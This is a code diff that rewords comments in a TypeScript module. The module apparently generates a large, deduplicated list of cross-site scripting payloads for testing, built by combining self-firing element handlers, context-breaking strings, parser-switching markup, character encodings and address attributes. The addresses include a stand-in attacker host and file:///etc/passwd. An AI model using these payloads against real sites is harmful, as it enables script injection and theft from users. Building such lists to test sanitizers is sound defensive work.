@@ -1,18 +1,18 @@
 /**
- * Texts that a browser would carry out if it took them for markup, a script, a style or an address: made of the parts
- * that such attacks are made of, put together in every way.
+ * Strings that a browser would execute if it interpreted them as markup, a script, a style or an address: all
+ * combinations of the components of such attacks.
  */
 
-/** What each of them calls, if anything does. */
+/** The call that each attack performs. */
 export const ATTACK_CALL = 'alert(1)';
 
-/** Where something else is put in. */
+/** Placeholder for an inserted string. */
 const PLACEHOLDER = '¤';
 
-/** A host of the attacker's. */
+/** A host of the attacker. */
 const ATTACKER_HOST = '//evil.example/';
 
-/** Elements whose handler is called without anybody doing anything: head, handler, and what must follow. */
+/** Elements whose handler runs without user interaction: head, handler, and required rest. */
 const SELF_FIRING_ELEMENTS: readonly (readonly [head: string, handler: string, rest?: string])[] = [
   ['img src=x', 'onerror'],
   ['img srcset=x', 'onerror'],
@@ -49,7 +49,7 @@ const SELF_FIRING_ELEMENTS: readonly (readonly [head: string, handler: string, r
   ['math><maction actiontype=toggle', 'onclick', 'x</maction></math>'],
 ];
 
-/** Ways to write a handler: H is its name. */
+/** Spellings of a handler; H is its name. */
 const HANDLER_SPELLINGS: readonly string[] = [
   ...[
     ' H=¤>',
@@ -86,7 +86,7 @@ const HANDLER_SPELLINGS: readonly string[] = [
   ],
 ];
 
-/** Ways to write a call. */
+/** Spellings of a call. */
 const CALLS: readonly string[] = [
   ...[
     ATTACK_CALL,
@@ -230,7 +230,7 @@ const HANDLERS: readonly string[] = [
   ...['toggle', 'touchstart', 'transitionend', 'unload', 'volumechange', 'wheel'],
 ];
 
-/** Attributes that hold an address, each with an element. */
+/** Attributes that contain an address, each with an element. */
 const ADDRESS_ATTRIBUTES: readonly string[] = [
   ...[
     '<a href="¤">x</a>',
@@ -310,7 +310,7 @@ const ADDRESSES: readonly string[] = [
   ...['http://127.0.0.1@evil.example/', 'http:evil.example', 'file:///etc/passwd', 'ftp://evil.example/'],
 ];
 
-/** What ends the place that a text was put into. */
+/** Strings that end the surrounding context. */
 const CONTEXT_CLOSERS: readonly string[] = [
   ...[
     '"',
@@ -343,7 +343,7 @@ const CONTEXT_CLOSERS: readonly string[] = [
   ...['</option></select>', '</table>', '</button>', '\\">', '&quot;>', '"]}</script>', "'}</style>", '\n\n'],
 ];
 
-/** What follows then. */
+/** Markup after the end of the context. */
 const INJECTED_MARKUP: readonly string[] = [
   ...[
     `<script>${ATTACK_CALL}</script>`,
@@ -373,7 +373,7 @@ const INJECTED_MARKUP: readonly string[] = [
   ],
 ];
 
-/** What ends a text of a script, and what is put in between. */
+/** Strings that end a string of a script, and separators. */
 const QUOTES = [
   "'",
   '"',
@@ -442,7 +442,7 @@ const STYLED_ELEMENTS = [
   '¤',
 ];
 
-/** Places that are read by other rules, and what is text there until a parser is misled. */
+/** Contexts with other parsing rules, and content that is text until a parser is misled. */
 const PARSER_SWITCHES: readonly string[] = [
   ...[
     '<svg>',
@@ -538,7 +538,7 @@ const ENCODINGS: readonly Encoding[] = [
   signs((code) => `\\${hex(code)} `),
   signs((code) => `+A${hex(code)}-`),
   signs((code) => String.fromCharCode(code + 0xfee0)),
-  // Bytes of an overlong form, as somebody who does not know UTF-8 reads them.
+  // Bytes of an overlong form, decoded without UTF-8.
   signs((code) => String.fromCharCode(0xc0 + (code >> 6), 0x80 + (code & 63))),
   eachOf((_, character) => `${character}\u0000`),
   eachOf((_, character) => `${character}\u200b`),
@@ -646,10 +646,10 @@ function combine(
   return outer.flatMap((one) => inner.map((other) => join(one, other)));
 }
 
-/** One of a list, for each place of another one: neighbours get different ones. */
+/** Returns an item of a list by index modulo its length, so that neighbors differ. */
 function pickCyclic<Value>(list: readonly Value[], at: number): Value {
   const found = list[at % list.length];
-  if (found === undefined) throw new Error('an empty list has no turns');
+  if (found === undefined) throw new Error('the list is empty');
   return found;
 }
 
@@ -698,5 +698,5 @@ function listAllTexts(): readonly string[] {
   ];
 }
 
-/** More than 6,613 of them, each only once. */
+/** More than 6,613 different strings. */
 export const HOSTILE_MARKUP: readonly string[] = [...new Set(listAllTexts())];
